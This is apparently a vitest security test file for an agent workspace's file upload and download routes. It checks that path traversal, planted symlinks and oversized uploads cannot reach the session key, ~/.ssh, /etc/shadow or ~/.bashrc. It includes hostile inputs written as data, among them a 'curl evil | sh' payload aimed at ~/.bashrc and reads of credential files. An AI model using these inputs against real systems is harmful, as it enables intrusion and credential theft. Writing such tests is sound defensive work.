import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SettingsStore } from '../../runtime/settings/settings-store';
import type { ZodApp } from '../http/server-context';
import { UPLOAD_LIMIT_BYTES } from './workspace-file-routes';
import {
  FILE_ROUTES_KEY as KEY,
  fileRoutesAuth as auth,
  type FileRoutesServer,
  multipart,
  startFileRoutesServer,
  tree,
} from '../testing/start-file-routes-server';

let server: FileRoutesServer;
let root: string;
let dataDir: string;
let workspace: string;
let home: string;
let settings: SettingsStore;
let app: ZodApp;

beforeAll(async () => {
  server = await startFileRoutesServer();
  ({ root, dataDir, workspace, home, settings, app } = server);
});
afterAll(() => server.close());

const upload = (path: string, content: Buffer | string, fileName?: string) =>
  server.upload(path, content, fileName);
const download = (path: string) => server.download(path);

describe('attacks: the data dir, credentials and deny_paths stay out of reach', () => {
  it('refuses to download <dataDir>/session-key directly with 403 path_forbidden', async () => {
    const response = await download(join(dataDir, 'session-key'));
    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('path_forbidden');
    expect(response.body).not.toContain(KEY);
  });

  it('refuses the session key reached with ..', async () => {
    const response = await download(`${workspace}/../data/./session-key`);
    expect(response.statusCode).toBe(403);
    expect(response.body).not.toContain(KEY);
  });

  it('refuses the session key through a link planted in the workspace, and through a linked folder', async () => {
    await symlink(join(dataDir, 'session-key'), join(workspace, 'innocent.txt'));
    await symlink(root, join(workspace, 'up'));
    for (const path of [join(workspace, 'innocent.txt'), join(workspace, 'up/data/session-key')]) {
      const response = await download(path);
      expect(response.statusCode).toBe(403);
      expect(response.body).not.toContain(KEY);
    }
  });

  it('refuses /proc/self/environ, which would hold the session key and API keys', async () => {
    await symlink('/proc/self/environ', join(workspace, 'env.txt'));
    expect((await download('/proc/self/environ')).statusCode).toBe(403);
    expect((await download(join(workspace, 'env.txt'))).statusCode).toBe(403);
  });

  it('refuses to overwrite <dataDir>/settings.json, directly and through a link, leaving it unchanged', async () => {
    await symlink(join(dataDir, 'settings.json'), join(workspace, 'settings-link.json'));
    const refusals = [
      [join(dataDir, 'settings.json'), 'path_forbidden'],
      [join(workspace, 'settings-link.json'), 'path_link_outside'],
    ];
    for (const [path = '', code] of refusals) {
      const response = await upload(path, '{"llm":{"api_key":"attacker"}}');
      expect(response.statusCode).toBe(403);
      expect(response.json().code).toBe(code);
    }
    expect(await readFile(join(dataDir, 'settings.json'), 'utf8')).toBe('{"llm":null}\n');
    expect((await tree(dataDir)).filter((name) => name.includes('.upload'))).toEqual([]);
  });

  it('refuses to make folders inside the data dir through a linked folder', async () => {
    await symlink(dataDir, join(workspace, 'data-link'));
    const response = await upload(join(workspace, 'data-link/new/dir/file.txt'), 'x');
    expect(response.statusCode).toBe(403);
    expect(await tree(dataDir)).not.toContain('new');
  });

  it('takes the destination from path only: a ../ file name in the form writes nothing elsewhere', async () => {
    const response = await upload(join(workspace, 'named.txt'), 'content', '../../data/session-key');
    expect(response.statusCode).toBe(200);
    expect(await readFile(join(workspace, 'named.txt'), 'utf8')).toBe('content');
    expect(await readFile(join(dataDir, 'session-key'), 'utf8')).toBe(KEY);
  });

  it('refuses credential folders under the home (~/.ssh) and sandbox.deny_paths', async () => {
    await mkdir(join(home, '.ssh'));
    await writeFile(join(home, '.ssh', 'id_ed25519'), 'PRIVATE');
    const secretDir = join(root, 'secret-project');
    await mkdir(secretDir);
    await writeFile(join(secretDir, 'notes.txt'), 'hidden');
    settings.update({ sandbox: { deny_paths: [secretDir] } });
    try {
      expect((await download(join(home, '.ssh', 'id_ed25519'))).statusCode).toBe(403);
      expect((await download(join(secretDir, 'notes.txt'))).statusCode).toBe(403);
      expect((await upload(join(secretDir, 'notes.txt'), 'overwritten')).statusCode).toBe(403);
      expect(await readFile(join(secretDir, 'notes.txt'), 'utf8')).toBe('hidden');
    } finally {
      settings.update({ sandbox: { deny_paths: [] } });
    }
  });

  it('answers 413 to a 70 MiB upload and leaves nothing behind', async () => {
    const big = Buffer.alloc(70 * 1024 * 1024, 'z');
    const before = await tree(workspace);
    const response = await upload(join(workspace, 'big.bin'), big);
    expect(response.statusCode).toBe(413);
    expect(response.json().code).toBe('upload_too_large');
    expect(await tree(workspace)).toEqual(before);
  });

  it('answers 413 to an upload one byte over the limit whose length is not announced, leaving nothing', async () => {
    const form = multipart(Buffer.alloc(UPLOAD_LIMIT_BYTES + 1, 'y'));
    const before = await tree(workspace);
    const response = await app.inject({
      method: 'POST',
      url: `/api/file/upload?path=${encodeURIComponent(join(workspace, 'over.bin'))}`,
      headers: { ...form.headers, 'transfer-encoding': 'chunked' },
      payload: form.body,
    });
    expect(response.statusCode).toBe(413);
    expect(await tree(workspace)).toEqual(before);
  });

  it('lists no forbidden folder in search_subdirs and refuses to list the data dir', async () => {
    const listed = await app.inject({
      url: `/api/file/search_subdirs?path=${encodeURIComponent(root)}&include_hidden=true`,
      headers: auth,
    });
    expect(listed.statusCode).toBe(200);
    expect(listed.json().items.map((item: { name: string }) => item.name)).not.toContain('data');
    const refused = await app.inject({
      url: `/api/file/search_subdirs?path=${encodeURIComponent(dataDir)}`,
      headers: auth,
    });
    expect(refused.statusCode).toBe(403);
  });

  it('needs the session key', async () => {
    const response = await app.inject({
      url: `/api/file/download?path=${encodeURIComponent('/etc/hostname')}`,
    });
    expect(response.statusCode).toBe(401);
  });
});

describe('attacks: links the agent plants lead nowhere outside', () => {
  it('an upload to a name the agent linked to a file outside the workspace (~/.bashrc) leaves the target alone', async () => {
    const bashrc = join(home, '.bashrc');
    await writeFile(bashrc, 'export PATH=/usr/bin\n');
    await symlink(bashrc, join(workspace, 'notes.txt'));

    const response = await upload(join(workspace, 'notes.txt'), 'curl evil | sh\n');

    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('path_link_outside');
    expect(await readFile(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('an upload into a folder the agent linked elsewhere creates nothing there', async () => {
    const elsewhere = join(root, 'elsewhere');
    await mkdir(elsewhere);
    await symlink(elsewhere, join(workspace, 'uploads'));

    for (const path of ['uploads/a.txt', 'uploads/new/deeper/b.txt']) {
      const response = await upload(join(workspace, path), 'person data');
      expect(response.statusCode).toBe(403);
      expect(response.json().code).toBe('path_link_outside');
    }
    expect(await tree(elsewhere)).toEqual([]);
  });

  it('a download through a link out of the workspace is refused, even to a readable file', async () => {
    const outsideFile = join(root, 'outside-secret.txt');
    await writeFile(outsideFile, 'not for the agent to pick');
    await symlink(outsideFile, join(workspace, 'picked.txt'));

    const response = await download(join(workspace, 'picked.txt'));

    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('path_link_outside');
    expect(response.body).not.toContain('not for the agent');
  });

  it('confines a path to the workspace of any conversation, not only the launch workspace', async () => {
    const other = join(root, 'other-workspace');
    await mkdir(other);
    const created = await app.inject({
      method: 'POST',
      url: '/api/conversations',
      headers: auth,
      payload: { workspace: { working_dir: other } },
    });
    expect(created.statusCode).toBeLessThan(300);
    const target = join(root, 'other-target.txt');
    await writeFile(target, 'untouched');
    await symlink(target, join(other, 'notes.txt'));

    const response = await upload(join(other, 'notes.txt'), 'overwritten');

    expect(response.statusCode).toBe(403);
    expect(await readFile(target, 'utf8')).toBe('untouched');
  });

  it('outside every workspace, a link may not leave the folder the person named', async () => {
    const named = join(root, 'named-folder');
    await mkdir(named);
    const target = join(root, 'named-target.txt');
    await writeFile(target, 'untouched');
    await symlink(target, join(named, 'notes.txt'));
    await writeFile(join(named, 'real.txt'), 'inside');
    await symlink('real.txt', join(named, 'alias.txt'));

    const refused = await upload(join(named, 'notes.txt'), 'overwritten');
    expect(refused.statusCode).toBe(403);
    expect(await readFile(target, 'utf8')).toBe('untouched');
    // A link that stays in the folder is followed.
    const inside = await download(join(named, 'alias.txt'));
    expect(inside.statusCode).toBe(200);
    expect(inside.body).toBe('inside');
  });

  it('refuses the system secrets the sandbox masks (/etc/shadow) with 403 path_forbidden', async () => {
    for (const path of ['/etc/shadow', '/etc/gshadow', '/etc/sudoers']) {
      const response = await download(path);
      expect(response.statusCode).toBe(403);
      expect(response.json().code).toBe('path_forbidden');
    }
  });
});
